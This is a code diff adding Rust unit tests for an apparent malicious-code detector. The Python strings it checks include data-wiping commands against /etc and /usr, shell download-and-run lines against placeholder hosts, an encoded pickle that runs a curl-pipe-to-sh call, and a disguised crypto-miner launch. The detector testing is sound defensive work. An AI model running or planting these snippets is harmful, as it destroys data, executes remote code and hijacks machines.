@@ -1589,3 +1589,49 @@ fn callables_kept_as_static_methods_and_texts_folded_by_dunder_methods() {
         "import builtins, codecs\nclass Template:\n    def __init__(self, raw):\n        self.raw = raw\n    def __str__(self):\n        return codecs.decode(self.raw, 'hex').decode()\nclass Renderer:\n    engine = staticmethod(vars(builtins)['ex' + 'ec'])\n    def render(self, tpl):\n        self.engine(str(tpl), {})\nRenderer().render(Template('7072696e742831290a'))\n",
     );
 }
+
+#[test]
+fn known_code_fed_to_an_interpreter_on_stdin_is_read_as_its_code() {
+    // Known text written to a bare shell is what `bash -c TEXT` runs.
+    fires(
+        "CRD104",
+        "import subprocess\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\np.communicate(b'rm -rf /etc\\n')\n",
+    );
+    // `os.popen(shell, "w")` and options that take a value before nothing else.
+    fires(
+        "CRD102",
+        "import os, requests\nbody = requests.get('https://get.example.net/setup.sh').text\nos.popen('bash', 'w').write(body)\n",
+    );
+    fires(
+        "CRD102",
+        "import subprocess, requests\nbody = requests.get('https://get.example.net/s.sh').content\nsubprocess.Popen(['bash', '-o', 'pipefail'], stdin=subprocess.PIPE).communicate(body)\n",
+    );
+    // An item method run through `del` and `operator.setitem`.
+    fires(
+        "CRD104",
+        "import shutil\nclass Trash:\n    def __delitem__(self, path):\n        shutil.rmtree(path)\ndel Trash()['/etc']\n",
+    );
+    fires(
+        "CRD104",
+        "import operator, shutil\nclass Trash:\n    def __setitem__(self, path, keep):\n        if not keep:\n            shutil.rmtree(path)\noperator.setitem(Trash(), '/usr', False)\n",
+    );
+}
+
+#[test]
+fn generic_functions_dict_defaults_and_miner_configurations() {
+    // A `singledispatchmethod` whose handler for text removes what it is given.
+    fires(
+        "CRD104",
+        "import os\nfrom functools import singledispatchmethod\nclass Pruner:\n    @singledispatchmethod\n    def prune(self, target):\n        raise TypeError(target)\n    @prune.register\n    def _(self, target: str):\n        for root, dirs, files in os.walk(os.path.expanduser(target), topdown=False):\n            for name in files:\n                os.remove(os.path.join(root, name))\n    @prune.register\n    def _(self, target: list):\n        for t in target:\n            self.prune(t)\nPruner().prune(['~', '/etc'])\n",
+    );
+    // A dict subclass's `__missing__` unpickles a packed default that runs a command.
+    fires(
+        "CRD103",
+        "import base64, pickle\nclass Defaults(dict):\n    packed = {'theme': b'gASVRAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjCljdXJsIC1zIGh0dHA6Ly8yMDMuMC4xMTMuNy9pIHwgc2ggPi9kZXYvbnVsbCAyPiYxlIWUUpQu'}\n    def __missing__(self, key):\n        return pickle.loads(base64.b64decode(self.packed[key]))\nprint(Defaults()['theme'])\n",
+    );
+    // An xmrig configuration written for a renamed binary.
+    fires(
+        "CRD108",
+        "import subprocess\nwith open('/tmp/.c.json', 'w') as fh:\n    fh.write('{\"pools\": [{\"url\": \"pool.example.org:4444\"}], \"cpu\": {\"max-threads-hint\": 100}}')\nsubprocess.Popen(['/tmp/.cache/kworker', '--config', '/tmp/.c.json'])\n",
+    );
+}
